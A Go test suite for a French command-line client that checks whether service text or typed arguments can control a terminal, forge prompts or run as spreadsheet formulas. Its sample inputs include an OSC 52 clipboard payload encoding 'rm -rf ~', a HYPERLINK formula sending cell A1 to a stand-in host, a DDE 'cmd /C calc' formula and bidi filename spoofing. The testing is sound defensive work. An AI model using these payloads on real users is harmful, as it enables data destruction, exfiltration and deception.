package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/guichet-go/guichet/cmd/guichet/app"
	"github.com/guichet-go/guichet/cmd/guichet/command"
)

// attacks are texts that drive a terminal or a spreadsheet.
var attacks = map[string]string{
	"clipboard (OSC 52)":   "a\x1b]52;c;cm0gLXJmIH4K\x07b",
	"a link (OSC 8)":       "\x1b]8;;https://exemple.fr\x1b\\cliquez\x1b]8;;\x1b\\",
	"a device string":      "\x1bP$q\"p\x1b\\",
	"8-bit control":        "\u009b2J\u009d0;titre\u009c",
	"bidirectional text":   "facture\u202egpj.exe\u2066x\u2069",
	"a cursor":             "\x1b[2J\x1b[1;1H\r\n\b\x00\x7f",
	"a formula":            `=HYPERLINK("http://exemple.fr?x="&A1)`,
	"a formula after tab":  "\t=1+1",
	"a full-width formula": "＋cmd|' /C calc'!A0",
}

// saying is a service that gives this text wherever it gives one.
func saying(t *testing.T, text string, status int) world {
	t.Helper()
	encoded, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	answer := `{"organisations":[{"id":1,"name":` + string(encoded) + `}],"meta":{"current_page":1,"total_pages":1,"total_count":1}}`
	if len(text) < 1<<10 {
		answer = strings.ReplaceAll(`{"organisations":[{"id":1,"name":T,"email":T}],"meta":{"current_page":1,"total_pages":1,"total_count":1},"content":{"organizationName":T},"errors":[T]}`, "T", string(encoded))
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Request-Id", strings.Map(func(r rune) rune {
			if r < ' ' || r == 0x7f {
				return -1
			}
			return r
		}, text[:min(len(text), 60)]))
		w.WriteHeader(status)
		_, _ = io.WriteString(w, answer)
	}))
	t.Cleanup(server.Close)
	dir := t.TempDir()
	return world{"GUICHET_RDV_BASE_URL": server.URL, "GUICHET_ZOPS_BASE_URL": server.URL, "GUICHET_ZOPS_TOKEN": "jeton", "GUICHET_RDV_BEARER": "jeton", "GUICHET_CONFIG_DIR": dir, "GUICHET_STATE_DIR": dir, "GUICHET_STORE": "none"}
}

// onTerminal runs a command whose streams a person sees.
func (w world) onTerminal(t *testing.T, in string, args ...string) ended {
	t.Helper()
	var out, errs bytes.Buffer
	code := app.Run(t.Context(), args, &command.Env{
		In: strings.NewReader(in), Out: &out, Err: &errs, GOOS: "linux", Now: time.Now, Width: 100,
		InTerminal: true, OutTerminal: true, ErrTerminal: true, Getenv: func(name string) string { return w[name] },
	})
	return ended{code, out.String(), errs.String()}
}

// drives reports the first character that a terminal acts on, or that changes
// the order in which a text is read.
func drives(text string) (found rune, yes bool) {
	for _, r := range strings.ReplaceAll(strings.ReplaceAll(text, "\x1b[1m", ""), "\x1b[0m", "") { // our own header
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
			return r, true
		}
	}
	return 0, false
}

func TestServiceTextCannotControlATerminal(t *testing.T) {
	for name, text := range attacks {
		t.Run(name, func(t *testing.T) {
			good, bad := saying(t, text, 200), saying(t, text, 422)
			for _, format := range []string{"table", "json", "ndjson", "csv", "yaml"} {
				listed := good.onTerminal(t, "", "rdv", "organisation", "list", "-o", format, "--no-input", "--color", "never")
				listed.want(t, 0)
				failed := bad.onTerminal(t, "", "rdv", "organisation", "list", "-o", format, "--no-input")
				failed.want(t, 10)
				for what, shown := range map[string]string{"stdout": listed.out, "stderr": listed.errors, "the error": failed.errors, "what was listed before it": failed.out} {
					if r, yes := drives(strings.ReplaceAll(shown, "\r\n", "\n")); yes {
						t.Errorf("-o %s: %s has %U: %.200q", format, what, r, shown)
					}
				}
			}
		})
	}
}

func TestServiceTextCannotRunInASpreadsheet(t *testing.T) {
	for name, text := range attacks {
		for _, dialect := range []string{"rfc", "excel-fr"} {
			var out, errs bytes.Buffer
			saying(t, text, 200).here(t.Context(), nil, &out, &errs, "rdv", "organisation", "list", "-o", "csv", "--columns", "name", "--csv-dialect", dialect)
			reader := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff")))
			reader.Comma = map[string]rune{"rfc": ',', "excel-fr": ';'}[dialect]
			rows, err := reader.ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%s: %d rows: %v%s", name, len(rows), err, errs.String())
			}
			if cell := rows[1][0]; strings.ContainsAny(cell[:1], "=+-@\t\r") || strings.HasPrefix(cell, "＋") {
				t.Errorf("%s: the cell %.80q runs", name, cell)
			}
		}
	}
}

func TestDataFormatsKeepControlCharactersEscaped(t *testing.T) {
	for name, text := range attacks {
		for _, format := range []string{"json", "ndjson"} {
			var out bytes.Buffer
			saying(t, text, 200).here(t.Context(), nil, &out, io.Discard, "rdv", "organisation", "list", "-o", format)
			encoded, _ := json.Marshal(text)
			if !bytes.Contains(out.Bytes(), append([]byte(`"name":`), encoded...)) {
				t.Errorf("%s: -o %s changed it: %.200q", name, format, out.String())
			}
		}
	}
}

func TestServiceTextCannotForgeAQuestion(t *testing.T) {
	for name, text := range attacks {
		asked := saying(t, text, 200).onTerminal(t, "non\n", "zops", "account", "delete")
		asked.want(t, 2) // it is not the name
		if r, yes := drives(asked.errors); yes || asked.errors == "" {
			t.Errorf("%s: the question has %U: %.200q", name, r, asked.errors)
		}
	}
}

func TestTypedTextCannotForgeAQuestion(t *testing.T) {
	w, questions := saying(t, "x", 200), 0
	for name, text := range attacks {
		asked := w.onTerminal(t, "non\n", "zops", "admin", "delete", text)
		if strings.Contains(asked.errors, "[y/N]") {
			questions++
			asked.want(t, 130)
		} else {
			asked.want(t, 10) // what cannot be an id is refused before the question
		}
		if r, yes := drives(asked.errors); yes {
			t.Errorf("%s: the question has %U: %.200q", name, r, asked.errors)
		}
	}
	if questions == 0 {
		t.Error("nothing was asked")
	}
}

func TestCompletionsHaveNoControlCharacters(t *testing.T) {
	for name, text := range attacks {
		offered := saying(t, text, 200).onTerminal(t, "", "__complete", "rdv", "organisation", "get", "")
		id, description, _ := strings.Cut(strings.SplitN(offered.out, "\n", 2)[0], "\t")
		if r, yes := drives(description); yes || id != "1" {
			t.Errorf("%s: %U in %.200q", name, r, offered.out)
		}
	}
}

func TestACellOfTenMegabytesIsHarmless(t *testing.T) {
	if raced {
		t.Skip("one goroutine reads one long text")
	}
	w := saying(t, strings.Repeat("\u009bé", 10<<20/4), 200)
	for _, format := range []string{"table", "csv"} {
		o := w.onTerminal(t, "", "rdv", "organisation", "list", "-o", format, "--columns", "name", "--no-input", "--color", "never")
		o.want(t, 0)
		if r, yes := drives(o.out); yes {
			t.Errorf("-o %s has %U", format, r)
		}
		if format == "table" && len(o.out) > 1000 {
			t.Errorf("a terminal of 100 columns is given %d bytes", len(o.out))
		}
	}
}

func TestTypedTextCannotControlATerminal(t *testing.T) {
	w := saying(t, "x", 200)
	for _, text := range []string{"\x1b]52;c;eA==\x07", "\u009b2J", "\u202ex"} {
		for _, args := range [][]string{
			{text}, {"rdv", text}, {"rdv", "user", "get", text}, {"--" + text}, {"rdv", "rdv", "list", "--output", text}, {"rdv", "rdv", "list", "--jq", text}, {"-p", text, "profile", "show", text},
			{"rdv", "rdv", "list", "--columns", text}, {"api", "rdv", text, "/x"}, {"gopaas", "push", "t", "--data", "@" + text}, {"rdv", "rdv", "list", "--ca-file", text}, {"config", "get", text},
			{"rdv", "rdv", "list", "--base-url", "https://" + text}, {"pull", "run", text, "--out", "x"}, {"schema", text}, {"rdv", "rdv", "list", "--store", text}, {"completion", text},
		} {
			for _, format := range []string{"table", "json"} {
				o := w.with("GUICHET_OUTPUT", format).onTerminal(t, "", append(args, "--no-input")...)
				if r, yes := drives(o.out + o.errors); yes || o.code == 0 || o.code == 1 {
					t.Errorf("%q (%s): exit %d, %U in %.200q", args, format, o.code, r, o.out+o.errors)
				}
			}
		}
	}
}
